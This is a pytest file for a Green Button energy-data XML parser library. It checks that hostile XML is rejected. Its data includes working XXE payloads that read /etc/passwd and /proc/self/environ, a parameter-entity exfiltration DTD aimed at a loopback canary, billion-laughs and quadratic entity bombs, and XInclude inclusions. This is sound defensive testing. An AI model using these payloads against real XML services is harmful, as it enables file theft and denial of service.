"""The hostile-XML corpus of SECURITY.md b1, run through both public parse paths.

Every hostile document must end in a typed :class:`greenbutton.ParseError` (the specific
``UnsafeXMLError`` / ``XMLLimitError`` subclass where the policy names one) from both
``greenbutton.parse`` and ``greenbutton.iter_readings``, with a message that says what is
wrong, without leaking file content, and without a single connection to the loopback canary
server (R33-R37). A few inputs from the same catalogue are valid and must parse correctly:
comments / processing instructions inside values, a UTF-16 document with a BOM, an empty
feed and an empty BatchList.

The last section is the R33/R35 static check: only ``parse/_xml.py`` may call an XML parse
function, and its lxml parser calls pass the hardening flags explicitly.
"""

from __future__ import annotations

import ast
import contextlib
import http.client
import threading
import tomllib
from collections.abc import Callable, Iterator, Sequence
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest
from lxml import etree
from packaging.requirements import Requirement

import greenbutton
from greenbutton import ParseError, UnsafeXMLError, XMLLimitError
from greenbutton.parse import Limits

ATOM = "http://www.w3.org/2005/Atom"
ESPI = "http://naesb.org/espi"
XI = "http://www.w3.org/2001/XInclude"
BASE = "https://utility.example/DataCustodian/espi/1_1/resource"
SUB = f"{BASE}/Subscription/5"
UP = f"{SUB}/UsagePoint/1"
MR = f"{UP}/MeterReading/1"
START = 1_704_067_200  # 2024-01-01T00:00:00Z
DECL = '<?xml version="1.0" encoding="UTF-8"?>\n'

REPO = Path(__file__).resolve().parents[2]
SRC = REPO / "src" / "greenbutton"
XML_MODULE = SRC / "parse" / "_xml.py"

# Strings that would only appear in an error or a result if a file or URL had been read.
LEAK_MARKERS = ("root:", "PATH=", "TOPSECRET", "CANARY-BODY")


# --------------------------------------------------------------------------------------------
# A minimal valid feed: UsagePoint -> MeterReading (+ReadingType) -> IntervalBlock
# --------------------------------------------------------------------------------------------


def reading(start: int | str, duration: int | str, value: int | str) -> str:
    """One IntervalReading on one line, so an error in it has exactly one line number."""
    return (
        "<espi:IntervalReading><espi:timePeriod>"
        f"<espi:duration>{duration}</espi:duration><espi:start>{start}</espi:start>"
        f"</espi:timePeriod><espi:value>{value}</espi:value></espi:IntervalReading>"
    )


DEFAULT_READINGS = (reading(START, 3600, 123), reading(START + 3600, 3600, 456))


def make_feed(
    *,
    readings: Sequence[str] = DEFAULT_READINGS,
    title: str = "Front Electric Meter",
    title_attrs: str = "",
    entry_extra: str = "",
    feed_extra: str = "",
    espi_ns: str = ESPI,
    prolog: str = DECL,
) -> str:
    """A small Atom feed of four linked ESPI entries; the hostile parts are spliced in raw.

    ``title``/``title_attrs``/``entry_extra`` go into the UsagePoint entry, ``feed_extra``
    after the feed metadata, ``prolog`` before the root element (declaration, DOCTYPE).
    """
    block = "\n".join(f"        {r}" for r in readings)
    return f"""{prolog}<feed xmlns="{ATOM}" xmlns:espi="{espi_ns}">
  <id>urn:uuid:0b3c7d2e-0000-4000-8000-000000000001</id>
  <title>Green Button Usage Feed</title>
  <updated>2024-01-02T00:00:00Z</updated>
  <link rel="self" href="{BASE}/Batch/Subscription/5"/>{feed_extra}
  <entry>
    <id>urn:uuid:0b3c7d2e-0000-4000-8000-000000000002</id>
    <link rel="self" href="{UP}"/>
    <link rel="up" href="{SUB}/UsagePoint"/>
    <link rel="related" href="{UP}/MeterReading"/>
    <title{title_attrs}>{title}</title>{entry_extra}
    <content>
      <espi:UsagePoint>
        <espi:ServiceCategory><espi:kind>0</espi:kind></espi:ServiceCategory>
      </espi:UsagePoint>
    </content>
    <published>2024-01-02T00:00:00Z</published>
    <updated>2024-01-02T00:00:00Z</updated>
  </entry>
  <entry>
    <id>urn:uuid:0b3c7d2e-0000-4000-8000-000000000003</id>
    <link rel="self" href="{MR}"/>
    <link rel="up" href="{UP}/MeterReading"/>
    <link rel="related" href="{MR}/IntervalBlock"/>
    <link rel="related" href="{BASE}/ReadingType/1"/>
    <title>Hourly energy</title>
    <content>
      <espi:MeterReading/>
    </content>
    <published>2024-01-02T00:00:00Z</published>
    <updated>2024-01-02T00:00:00Z</updated>
  </entry>
  <entry>
    <id>urn:uuid:0b3c7d2e-0000-4000-8000-000000000004</id>
    <link rel="self" href="{BASE}/ReadingType/1"/>
    <link rel="up" href="{BASE}/ReadingType"/>
    <title>Energy Delivered (Wh)</title>
    <content>
      <espi:ReadingType>
        <espi:accumulationBehaviour>4</espi:accumulationBehaviour>
        <espi:commodity>1</espi:commodity>
        <espi:currency>840</espi:currency>
        <espi:dataQualifier>12</espi:dataQualifier>
        <espi:flowDirection>1</espi:flowDirection>
        <espi:intervalLength>3600</espi:intervalLength>
        <espi:kind>12</espi:kind>
        <espi:phase>769</espi:phase>
        <espi:powerOfTenMultiplier>0</espi:powerOfTenMultiplier>
        <espi:timeAttribute>0</espi:timeAttribute>
        <espi:uom>72</espi:uom>
      </espi:ReadingType>
    </content>
    <published>2024-01-02T00:00:00Z</published>
    <updated>2024-01-02T00:00:00Z</updated>
  </entry>
  <entry>
    <id>urn:uuid:0b3c7d2e-0000-4000-8000-000000000005</id>
    <link rel="self" href="{MR}/IntervalBlock/1"/>
    <link rel="up" href="{MR}/IntervalBlock"/>
    <title/>
    <content>
      <espi:IntervalBlock>
        <espi:interval>
          <espi:duration>{3600 * max(len(readings), 1)}</espi:duration>
          <espi:start>{START}</espi:start>
        </espi:interval>
{block}
      </espi:IntervalBlock>
    </content>
    <published>2024-01-02T00:00:00Z</published>
    <updated>2024-01-02T00:00:00Z</updated>
  </entry>
</feed>
"""


def line_of(text: str, marker: str) -> int:
    """1-based line of the first occurrence of ``marker`` in ``text``."""
    return text[: text.index(marker)].count("\n") + 1


def batch_list(n: int) -> bytes:
    uris = "".join(f"\n  <resources>{SUB}/UsagePoint/{i}</resources>" for i in range(n))
    return f'{DECL}<BatchList xmlns="{ESPI}">{uris}\n</BatchList>\n'.encode()


# --------------------------------------------------------------------------------------------
# Helpers: run both paths, check the error
# --------------------------------------------------------------------------------------------

SourceFactory = Callable[[], contextlib.AbstractContextManager[Any]]


def as_bytes(data: bytes) -> SourceFactory:
    return lambda: contextlib.nullcontext(data)


def _read_all(source: Any, **kwargs: Any) -> list[Any]:
    return list(greenbutton.iter_readings(source, **kwargs))


PATHS: tuple[tuple[str, Callable[..., Any]], ...] = (
    ("parse", greenbutton.parse),
    ("iter_readings", _read_all),
)


def rejections(
    make_source: SourceFactory | bytes,
    exc_type: type[ParseError],
    *words: str,
    limits: Limits | None = None,
) -> list[ParseError]:
    """Assert both paths raise ``exc_type`` saying one of ``words``; return the errors.

    Both paths are always run, and every shortfall of both is reported together.
    """
    if isinstance(make_source, bytes):
        make_source = as_bytes(make_source)
    kwargs: dict[str, Any] = {} if limits is None else {"limits": limits}
    errors: list[ParseError] = []
    failures: list[str] = []
    for label, run in PATHS:
        with make_source() as source:
            try:
                result = run(source, **kwargs)
            except exc_type as err:
                errors.append(err)
                failures += problems_with(err, words, path=label)
            except Exception as err:
                failures.append(
                    f"{label}: raised {type(err).__name__} instead of {exc_type.__name__}: "
                    f"{str(err)[:300]}"
                )
            else:
                failures.append(
                    f"{label}: did not raise {exc_type.__name__}; returned {repr(result)[:200]}"
                )
    assert not failures, "\n".join(failures)
    return errors


def problems_with(err: BaseException, words: Sequence[str], *, path: str) -> list[str]:
    """Why ``err`` is not a good rejection: its message names none of ``words`` or it leaks."""
    found = []
    text = str(err)
    if words and not any(w.lower() in text.lower() for w in words):
        found.append(f"{path}: error message {text[:300]!r} should mention one of {words!r}")
    texts = [text, repr(err.args)]
    if isinstance(err, ParseError):
        texts.append(str(err.message))
    for t in texts:
        found += [
            f"{path}: error leaks {marker!r}: {t[:300]!r}" for marker in LEAK_MARKERS if marker in t
        ]
    return found


def assert_says(err: BaseException, *words: str, path: str = "") -> None:
    """The message names the problem (one of ``words``, any case) and leaks nothing."""
    problems = problems_with(err, words, path=path)
    assert not problems, "\n".join(problems)


def raw_value(row: Any) -> Any:
    """``raw_value`` of an iter_readings row (DESIGN 3.3: the fifth column)."""
    return row.raw_value if hasattr(row, "raw_value") else row[4]


def values_of(doc: Any) -> list[int | None]:
    return [r.value for mr in doc.meter_readings for r in mr.readings]


# --------------------------------------------------------------------------------------------
# Loopback canary: any request proves an external entity / DTD was fetched
# --------------------------------------------------------------------------------------------


class Canary:
    def __init__(self, server: ThreadingHTTPServer) -> None:
        self.server = server
        self.connections: list[tuple[str, int]] = []
        self.requests: list[str] = []
        self.lock = threading.Lock()

    @property
    def url(self) -> str:
        host, port = self.server.server_address[:2]
        return f"http://{host}:{port}"

    @property
    def hits(self) -> int:
        with self.lock:
            return len(self.connections) + len(self.requests)

    def reset(self) -> None:
        with self.lock:
            self.connections.clear()
            self.requests.clear()


class _CanaryServer(ThreadingHTTPServer):
    daemon_threads = True
    canary: Canary

    def verify_request(self, request: Any, client_address: Any) -> bool:
        # Counts bare TCP connections too, not only complete HTTP requests.
        with self.canary.lock:
            self.canary.connections.append(client_address)
        return True


class _CanaryHandler(BaseHTTPRequestHandler):
    server: _CanaryServer

    def do_GET(self) -> None:
        canary = self.server.canary
        with canary.lock:
            canary.requests.append(self.path)
        body = b'<!ENTITY leak "CANARY-BODY">CANARY-BODY'
        self.send_response(200)
        self.send_header("Content-Type", "application/xml-dtd")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, format: str, *args: Any) -> None:
        pass


@pytest.fixture(scope="module")
def _canary_server() -> Iterator[Canary]:
    server = _CanaryServer(("127.0.0.1", 0), _CanaryHandler)
    canary = Canary(server)
    server.canary = canary
    thread = threading.Thread(
        target=server.serve_forever, kwargs={"poll_interval": 0.05}, daemon=True
    )
    thread.start()
    try:
        yield canary
    finally:
        server.shutdown()
        server.server_close()
        thread.join(timeout=5)


@pytest.fixture
def canary(_canary_server: Canary) -> Canary:
    _canary_server.reset()
    return _canary_server


def test_canary_counts_requests(canary: Canary) -> None:
    """The canary itself works, so "0 hits" below means something."""
    host, port = canary.server.server_address[:2]
    conn = http.client.HTTPConnection(str(host), int(port), timeout=5)
    try:
        conn.request("GET", "/probe")
        assert conn.getresponse().read().endswith(b"CANARY-BODY")
    finally:
        conn.close()
    assert canary.requests == ["/probe"]
    assert canary.hits == 2  # one connection + one request
    canary.reset()
    assert canary.hits == 0


# --------------------------------------------------------------------------------------------
# The baseline document is valid (so every rejection below is caused by the hostile part)
# --------------------------------------------------------------------------------------------


def test_minimal_feed_is_valid() -> None:
    data = make_feed().encode()
    doc = greenbutton.parse(data)
    assert len(doc.usage_points) == 1
    assert len(doc.meter_readings) == 1
    mr = doc.meter_readings[0]
    assert mr.reading_type is not None
    assert mr.reading_type.uom == 72
    assert [r.start for r in mr.readings] == [START, START + 3600]
    assert [r.duration for r in mr.readings] == [3600, 3600]
    assert values_of(doc) == [123, 456]
    rows = _read_all(data)
    assert [raw_value(r) for r in rows] == [123, 456]


# --------------------------------------------------------------------------------------------
# b1.1-6: DTDs and entities (R34, R35) -> UnsafeXMLError, 0 canary hits, no file content
# --------------------------------------------------------------------------------------------

_LOL = "".join(f'<!ENTITY lol{i} "{("&lol" + str(i - 1) + ";") * 10}">' for i in range(1, 10))
_QUADRATIC_ENTITY = "x" * 50_000

# name -> (DOCTYPE prolog, title text); "{canary}" is replaced by the canary base URL.
DTD_CASES: dict[str, tuple[str, str]] = {
    "billion_laughs": (f'<!DOCTYPE feed [<!ENTITY lol0 "lol">{_LOL}]>', "&lol9;"),
    "quadratic_blowup": (
        f'<!DOCTYPE feed [<!ENTITY a "{_QUADRATIC_ENTITY}">]>',
        "&a;" * 10_000,
    ),
    "xxe_file_passwd": (
        '<!DOCTYPE feed [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>',
        "&xxe;",
    ),
    "xxe_file_environ": (
        '<!DOCTYPE feed [<!ENTITY xxe SYSTEM "file:///proc/self/environ">]>',
        "&xxe;",
    ),
    "xxe_relative_path": ('<!DOCTYPE feed [<!ENTITY xxe SYSTEM "secret.txt">]>', "&xxe;"),
    "xxe_http_canary": (
        '<!DOCTYPE feed [<!ENTITY xxe SYSTEM "{canary}/xxe">]>',
        "&xxe;",
    ),
    "parameter_entity_http": (
        '<!DOCTYPE feed [<!ENTITY % pe SYSTEM "{canary}/pe.dtd"> %pe;]>',
        "x",
    ),
    "parameter_entity_exfiltration": (
        '<!DOCTYPE feed [<!ENTITY % file SYSTEM "file:///etc/passwd">'
        '<!ENTITY % dtd SYSTEM "{canary}/evil.dtd"> %dtd;]>',
        "&leak;",
    ),
    "external_dtd_system": ('<!DOCTYPE feed SYSTEM "{canary}/a.dtd">', "x"),
    "external_dtd_public": (
        '<!DOCTYPE feed PUBLIC "-//Evil//DTD Feed//EN" "{canary}/p.dtd">',
        "x",
    ),
    "internal_entity_unused": ('<!DOCTYPE feed [<!ENTITY e "expanded">]>', "x"),
    "empty_internal_subset": ("<!DOCTYPE feed []>", "x"),
    "bare_doctype": ("<!DOCTYPE feed>", "x"),
}


def dtd_document(case: str, canary: Canary) -> bytes:
    doctype, title = DTD_CASES[case]
    prolog = DECL + doctype.replace("{canary}", canary.url) + "\n"
    return make_feed(prolog=prolog, title=title).encode()


@pytest.fixture
def sources(tmp_path: Path) -> Callable[[bytes, str], SourceFactory]:
    """Turn bytes into a source factory of the given kind: bytes, path (str) or file object."""

    def factory(data: bytes, kind: str) -> SourceFactory:
        if kind == "bytes":
            return as_bytes(data)
        path = tmp_path / "document.xml"
        path.write_bytes(data)
        if kind == "path":
            return lambda: contextlib.nullcontext(str(path))
        return lambda: path.open("rb")

    return factory


@pytest.mark.parametrize("kind", ["bytes", "path", "file"])
@pytest.mark.parametrize("case", sorted(DTD_CASES))
def test_dtd_and_entities_are_refused(
    case: str,
    kind: str,
    canary: Canary,
    sources: Callable[[bytes, str], SourceFactory],
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    # A relative SYSTEM id resolves against the document (path/file) or the working
    # directory (bytes): put a secret at both places.
    (tmp_path / "secret.txt").write_text("TOPSECRET-relative-entity\n")
    monkeypatch.chdir(tmp_path)
    data = dtd_document(case, canary)
    rejections(sources(data, kind), UnsafeXMLError, "DOCTYPE", "DTD")
    assert canary.hits == 0, f"canary was contacted: {canary.requests}"


def test_corpus_is_live_against_an_unsafe_parser() -> None:
    """The corpus is real ammunition: an lxml parser with entity resolution on does read
    /etc/passwd through the XXE document (so the refusals above are what protects us).
    libxml2 2.14 has no HTTP client, so only the canary (not lxml) can show network use."""
    data = make_feed(prolog=DECL + DTD_CASES["xxe_file_passwd"][0] + "\n", title="&xxe;")
    unsafe = etree.XMLParser(resolve_entities=True, no_network=True, load_dtd=True)
    root = etree.fromstring(data.encode(), unsafe)
    title = root.findtext(f"{{{ATOM}}}entry/{{{ATOM}}}title") or ""
    assert "root:" in title


@pytest.mark.parametrize("root", ["entry", "BatchList"])
@pytest.mark.parametrize(
    "case",
    ["billion_laughs", "xxe_file_passwd", "xxe_http_canary", "external_dtd_system", "bare_doctype"],
)
def test_dtd_is_refused_whatever_the_root(case: str, root: str, canary: Canary) -> None:
    """A bare entry (member GET) and a BatchList (notification POST) get the same policy."""
    doctype, text = DTD_CASES[case]
    prolog = DECL + doctype.replace("{canary}", canary.url).replace("feed", root, 1) + "\n"
    if root == "entry":
        body = (
            f'<entry xmlns="{ATOM}" xmlns:espi="{ESPI}"><id>urn:uuid:1</id>'
            f'<link rel="self" href="{UP}"/><title>{text}</title>'
            "<content><espi:UsagePoint><espi:ServiceCategory><espi:kind>0</espi:kind>"
            "</espi:ServiceCategory></espi:UsagePoint></content></entry>"
        )
    else:
        body = f'<BatchList xmlns="{ESPI}"><resources>{SUB}/{text}</resources></BatchList>'
    rejections((prolog + body).encode(), UnsafeXMLError, "DOCTYPE", "DTD")
    assert canary.hits == 0, f"canary was contacted: {canary.requests}"


@pytest.mark.parametrize("href", ["file:///etc/passwd", "{canary}/xinclude"])
@pytest.mark.parametrize("parse_as", ["text", "xml"])
def test_xinclude_is_not_processed(canary: Canary, href: str, parse_as: str) -> None:
    """b1.7: either refused (UnsafeXMLError naming XInclude) or left unexpanded."""
    href = href.replace("{canary}", canary.url)
    include = f'<xi:include xmlns:xi="{XI}" href="{href}" parse="{parse_as}"/>'
    data = make_feed(title=f"Meter {include}", entry_extra=f"\n    {include}").encode()
    for label, run in PATHS:
        try:
            result = run(data)
        except UnsafeXMLError as err:
            assert_says(err, "XInclude", path=label)
        else:
            shown = repr(result)
            for marker in LEAK_MARKERS:
                assert marker not in shown, f"{label}: XInclude was expanded ({marker!r})"
    assert canary.hits == 0, f"canary was contacted: {canary.requests}"


# --------------------------------------------------------------------------------------------
# b1.8: comments, processing instructions and CDATA inside values are fine
# --------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "raw",
    [
        "12<!-- c -->3",
        "<!-- before -->123<!-- after -->",
        "1<?pi x?>23",
        "<![CDATA[123]]>",
        "12<![CDATA[3]]>",
        " 123\n ",
    ],
)
def test_comments_and_pis_inside_values(raw: str) -> None:
    prolog = DECL + '<?xml-stylesheet type="text/xsl" href="GreenButtonDataStyleSheet.xslt"?>\n'
    readings = (reading(START, 3600, raw), reading(START + 3600, 3600, 456))
    data = make_feed(prolog=prolog, readings=readings).encode()
    assert values_of(greenbutton.parse(data)) == [123, 456]
    assert [raw_value(r) for r in _read_all(data)] == [123, 456]


# --------------------------------------------------------------------------------------------
# b1.9-12: resource limits (R36) -> XMLLimitError
# --------------------------------------------------------------------------------------------

NEST_NS = "urn:example:nest"


def nested_feed(levels: int, where: str) -> bytes:
    """A feed whose deepest element is at depth ``levels`` (the root ``feed`` is depth 1)."""
    if where == "feed":  # extension elements right under the root: depths 2..levels
        n = levels - 1
        nest = f'\n  <x xmlns="{NEST_NS}">' + "<x>" * (n - 1) + "</x>" * n
        return make_feed(feed_extra=nest).encode()
    # inside the UsagePoint entry (depth 2): depths 3..levels
    n = levels - 2
    nest = f'\n    <x xmlns="{NEST_NS}">' + "<x>" * (n - 1) + "</x>" * n
    return make_feed(entry_extra=nest).encode()


@pytest.mark.parametrize("where", ["feed", "entry"])
@pytest.mark.parametrize("levels", [65, 257, 10_000])
def test_deep_nesting_is_refused(levels: int, where: str) -> None:
    rejections(nested_feed(levels, where), XMLLimitError, "depth", "nested")


@pytest.mark.parametrize("where", ["feed", "entry"])
def test_depth_64_is_allowed(where: str) -> None:
    data = nested_feed(64, where)
    assert values_of(greenbutton.parse(data)) == [123, 456]
    assert len(_read_all(data)) == 2


def test_default_limits() -> None:
    """R36: the policy numbers (libxml2's 256 levels / 10,000,000 bytes are only a backstop)."""
    limits = Limits()
    assert limits.max_depth == 64
    assert limits.max_text == 1_048_576


def test_max_depth_is_configurable() -> None:
    limits = Limits(max_depth=12)
    rejections(nested_feed(13, "entry"), XMLLimitError, "depth", "nested", limits=limits)
    assert values_of(greenbutton.parse(nested_feed(12, "entry"), limits=limits)) == [123, 456]


@pytest.mark.parametrize("size", [2_000_000, 11_000_000], ids=["2MB", "11MB"])
def test_huge_text_node_is_refused(size: int) -> None:
    data = make_feed(title="A" * size).encode()
    rejections(data, XMLLimitError, "text")


def test_huge_text_node_in_a_value_is_refused() -> None:
    readings = (reading(START, 3600, "1" * 2_000_000), reading(START + 3600, 3600, 456))
    rejections(make_feed(readings=readings).encode(), XMLLimitError, "text")


def test_max_text_is_configurable() -> None:
    limits = Limits(max_text=200)
    rejections(make_feed(title="A" * 201).encode(), XMLLimitError, "text", limits=limits)
    doc = greenbutton.parse(make_feed(title="A" * 200).encode(), limits=limits)
    assert values_of(doc) == [123, 456]


def test_100k_attributes_are_refused() -> None:
    attrs = "".join(f' a{i}="1"' for i in range(100_000))
    rejections(make_feed(title_attrs=attrs).encode(), XMLLimitError, "attribute")


def test_1mb_attribute_value_is_refused() -> None:
    """A 1 MiB + 1 href: attribute values count against ``max_text`` like text nodes."""
    href = "https://utility.example/" + "a" * Limits().max_text
    link = f'\n    <link rel="alternate" href="{href}"/>'
    rejections(make_feed(entry_extra=link).encode(), XMLLimitError, "attribute")


def test_1mb_element_name_is_refused() -> None:
    element = f"\n    <{'a' * 1_000_000}/>"
    rejections(make_feed(entry_extra=element).encode(), ParseError, "name")


def test_too_many_readings_per_block() -> None:
    """b1.12, scaled down: 5 million readings become 1001 against a limit of 1000."""
    limits = Limits(max_readings_per_block=1000)
    many = [reading(START + 3600 * i, 3600, i) for i in range(1001)]
    rejections(make_feed(readings=many).encode(), XMLLimitError, "reading", limits=limits)
    ok = make_feed(readings=many[:1000]).encode()
    assert len(values_of(greenbutton.parse(ok, limits=limits))) == 1000
    assert len(_read_all(ok, limits=limits)) == 1000


def test_too_many_entries() -> None:
    data = make_feed().encode()  # four entries
    rejections(data, XMLLimitError, "entries", "entry", limits=Limits(max_entries=3))
    assert values_of(greenbutton.parse(data, limits=Limits(max_entries=4))) == [123, 456]


# --------------------------------------------------------------------------------------------
# b1.14-15: encodings and truncation (R37) -> ParseError
# --------------------------------------------------------------------------------------------


def _utf16_feed() -> str:
    return make_feed(prolog='<?xml version="1.0" encoding="UTF-16"?>\n', title="Café Meter")


def test_utf16_with_bom_is_read_correctly() -> None:
    """A UTF-16 document with its BOM is well-formed XML 1.0 and is read as such."""
    data = _utf16_feed().encode("utf-16")
    assert data[:2] in (b"\xff\xfe", b"\xfe\xff")
    doc = greenbutton.parse(data)
    assert values_of(doc) == [123, 456]
    assert doc.usage_points[0].title == "Café Meter"
    assert [raw_value(r) for r in _read_all(data)] == [123, 456]


def test_utf8_with_bom_is_read_correctly() -> None:
    data = make_feed(title="Café Meter").encode("utf-8-sig")
    doc = greenbutton.parse(data)
    assert values_of(doc) == [123, 456]
    assert doc.usage_points[0].title == "Café Meter"


@pytest.mark.parametrize("codec", ["utf-16-le", "utf-16-be"])
def test_utf16_without_bom_is_refused(codec: str) -> None:
    """XML 1.0 s4.3.3: UTF-16 entities MUST begin with a BOM (libxml2 guesses; we refuse)."""
    rejections(_utf16_feed().encode(codec), ParseError, "encoding")


def test_utf16_without_bom_or_declaration_is_refused() -> None:
    data = _utf16_feed().split("\n", 1)[1].encode("utf-16-le")
    rejections(data, ParseError, "encoding")


def test_declared_latin1_with_utf8_bytes_is_refused() -> None:
    """Declared ISO-8859-1, bytes UTF-8: decoding would silently turn "é" into "Ã©"."""
    prolog = '<?xml version="1.0" encoding="ISO-8859-1"?>\n'
    data = make_feed(prolog=prolog, title="Café Meter").encode("utf-8")
    rejections(data, ParseError, "encoding")


@pytest.mark.parametrize("bad", [b"\xff", b"\xc3\x28", b"\xed\xa0\x80", b"\xf8\x88\x80\x80\x80"])
def test_invalid_utf8_is_refused(bad: bytes) -> None:
    text = make_feed(title="@@BAD@@").encode()
    rejections(text.replace(b"@@BAD@@", b"Meter " + bad), ParseError, "encoding", "UTF-8")


def test_nul_byte_is_refused() -> None:
    text = make_feed(title="@@BAD@@").encode()
    rejections(text.replace(b"@@BAD@@", b"Me\x00ter"), ParseError, "NUL", "char", "0x0")


@pytest.mark.parametrize(
    "cut_after",
    ["<espi:IntervalBlock", "<espi:ReadingType>", "</espi:IntervalReading>", "</entry>"],
)
def test_truncated_document_is_refused(cut_after: str) -> None:
    data = make_feed().encode()
    cut = data.index(cut_after.encode()) + len(cut_after) - 3
    errors = rejections(data[:cut], ParseError, "truncated", "end")
    assert all(e.line is not None for e in errors)


def test_truncated_mid_multibyte_character_is_refused() -> None:
    data = make_feed(title="Caf\u00e9 Meter").encode()
    cut = data.index("\u00e9".encode()) + 1  # first byte of the two-byte é
    rejections(data[:cut], ParseError, "truncated", "end", "encoding")


def test_truncated_document_yields_no_rows_first() -> None:
    """R37 "never half-lands": the streaming path yields nothing from a broken document,
    even when the break comes after complete readings."""
    data = make_feed().encode()
    cut = data.index(b"</espi:IntervalReading>") + len(b"</espi:IntervalReading>") + 20
    rows: list[Any] = []
    with pytest.raises(ParseError):
        for row in greenbutton.iter_readings(data[:cut]):
            rows.append(row)
    assert rows == []


def test_empty_input_is_refused() -> None:
    rejections(b"", ParseError)
    rejections(b"   \n", ParseError)


# --------------------------------------------------------------------------------------------
# b1.16-17: wrong root / namespace; the empty feed is valid
# --------------------------------------------------------------------------------------------


def test_wrong_root_html() -> None:
    data = b"<html><head><title>Error 500</title></head><body>oops</body></html>"
    rejections(data, ParseError, "root", "html")


@pytest.mark.parametrize(
    "data",
    [
        b'<feed xmlns="http://example.com/not-atom"><title>x</title></feed>',
        b"<feed><title>no namespace</title></feed>",
        b'<BatchList xmlns="http://example.com/not-espi"><resources>https://a/b</resources>'
        b"</BatchList>",
        b"<BatchList><resources>https://a/b</resources></BatchList>",
    ],
    ids=["feed_other_ns", "feed_no_ns", "batchlist_other_ns", "batchlist_no_ns"],
)
def test_right_root_wrong_namespace(data: bytes) -> None:
    rejections(data, ParseError, "namespace")


def test_espi_prefix_bound_to_another_namespace_is_not_read_as_espi() -> None:
    """``espi:`` bound to a foreign URI: the resources are not ESPI, so never read as such."""
    data = make_feed(espi_ns="http://example.com/not-espi").encode()
    for label, run in PATHS:
        try:
            result = run(data)
        except ParseError:
            continue
        if label == "parse":
            assert result.usage_points == () or values_of(result) == []
        else:
            assert result == []


def test_empty_feed_is_valid() -> None:
    data = f'<feed xmlns="{ATOM}"/>'.encode()
    doc = greenbutton.parse(data)
    assert doc.usage_points == ()
    assert doc.meter_readings == ()
    assert _read_all(data) == []


# --------------------------------------------------------------------------------------------
# b1.18: bad numbers and durations -> ParseError naming the line
# --------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "value",
    ["abc", "1e309", "9223372036854775808", "-9223372036854775809", "", "12.5", "0x10"],
)
def test_bad_reading_value(value: str) -> None:
    readings = (reading(START, 3600, 123), reading(START + 3600, 3600, value))
    text = make_feed(readings=readings)
    line = line_of(text, readings[1])
    for err in rejections(text.encode(), ParseError, "value"):
        assert err.line == line, f"{err!s}: expected line {line}"
        assert f"line {line}" in str(err)


def test_int64_minimum_value_is_not_lost() -> None:
    """-2**63 is a legal xs:long but is the columns' ABSENT marker: it must not silently
    become "no value". Either read it back exactly or refuse it."""
    readings = (reading(START, 3600, -(2**63)), reading(START + 3600, 3600, 456))
    data = make_feed(readings=readings).encode()
    try:
        doc = greenbutton.parse(data)
    except ParseError as err:
        assert_says(err, "value")
    else:
        assert values_of(doc) == [-(2**63), 456]


@pytest.mark.parametrize("duration", ["-900", "-1"])
def test_negative_duration(duration: str) -> None:
    readings = (reading(START, 3600, 123), reading(START + 3600, duration, 456))
    text = make_feed(readings=readings)
    line = line_of(text, readings[1])
    for err in rejections(text.encode(), ParseError, "duration"):
        assert err.line == line, f"{err!s}: expected line {line}"
        assert f"line {line}" in str(err)


def test_bad_value_yields_no_rows_first() -> None:
    """The bad reading is the second one: the first must not have been handed out."""
    readings = (reading(START, 3600, 123), reading(START + 3600, 3600, "abc"))
    rows: list[Any] = []
    with pytest.raises(ParseError):
        for row in greenbutton.iter_readings(make_feed(readings=readings).encode()):
            rows.append(row)
    assert rows == []


# --------------------------------------------------------------------------------------------
# b1.22: BatchList sizes
# --------------------------------------------------------------------------------------------


def test_batch_list_with_no_resources_is_valid() -> None:
    doc = greenbutton.parse(batch_list(0))
    assert doc.batch_list is not None
    assert doc.batch_list.resources == ()
    assert doc.usage_points == ()


def test_batch_list_with_resources() -> None:
    doc = greenbutton.parse(batch_list(3))
    assert doc.batch_list is not None
    assert doc.batch_list.resources == tuple(f"{SUB}/UsagePoint/{i}" for i in range(3))


def test_batch_list_with_10001_resources_is_refused() -> None:
    rejections(batch_list(10_001), ParseError)
    with pytest.raises(ParseError) as info:
        greenbutton.parse(batch_list(10_001))
    assert_says(info.value, "resources", "BatchList")


# --------------------------------------------------------------------------------------------
# R33 / R35: static checks of the package source
# --------------------------------------------------------------------------------------------

# Importing any of these (or a submodule) is parsing: only parse/_xml.py may do it.
FORBIDDEN_MODULES = (
    "xml.etree",
    "xml.dom",
    "xml.sax",
    "xml.parsers",
    "defusedxml",
    "lxml.objectify",
    "lxml.html",
    "lxml.isoschematron",
)
# lxml.etree callables that read XML text or files.
LXML_PARSE_FUNCTIONS = frozenset(
    {
        "parse",
        "fromstring",
        "fromstringlist",
        "XML",
        "XMLID",
        "XMLDTDID",
        "parseid",
        "iterparse",
        "XMLParser",
        "XMLPullParser",
        "ETCompatXMLParser",
        "HTML",
        "HTMLParser",
        "HTMLPullParser",
        "DTD",
        "XMLSchema",
        "RelaxNG",
        "XSLT",
    }
)
# Never allowed, not even in parse/_xml.py (Appendix A: no XInclude/XSLT on input).
NEVER = frozenset({"xinclude", "XInclude", "XSLT"})
HARDENED_CALLS = frozenset({"iterparse", "XMLParser", "XMLPullParser"})
REQUIRED_FLAGS = {
    "resolve_entities": False,
    "no_network": True,
    "load_dtd": False,
    "huge_tree": False,
}


def _dotted(node: ast.AST) -> str | None:
    if isinstance(node, ast.Name):
        return node.id
    if isinstance(node, ast.Attribute):
        base = _dotted(node.value)
        return f"{base}.{node.attr}" if base else None
    return None


def _is_forbidden_module(name: str) -> bool:
    return any(name == m or name.startswith(m + ".") for m in FORBIDDEN_MODULES)


def xml_parse_violations(source: str, *, allowed: bool = False) -> list[str]:
    """Imports/calls of XML parse functions in ``source``; ``allowed`` for parse/_xml.py."""
    tree = ast.parse(source)
    found: list[str] = []
    etree_names: set[str] = set()  # local names bound to lxml.etree
    for node in ast.walk(tree):
        if isinstance(node, ast.Import):
            for alias in node.names:
                if _is_forbidden_module(alias.name) and not allowed:
                    found.append(f"line {node.lineno}: import {alias.name}")
                if alias.name == "lxml.etree" and alias.asname:
                    etree_names.add(alias.asname)
        elif isinstance(node, ast.ImportFrom) and node.module and node.level == 0:
            for alias in node.names:
                full = f"{node.module}.{alias.name}"
                if not allowed and (
                    _is_forbidden_module(node.module) or _is_forbidden_module(full)
                ):
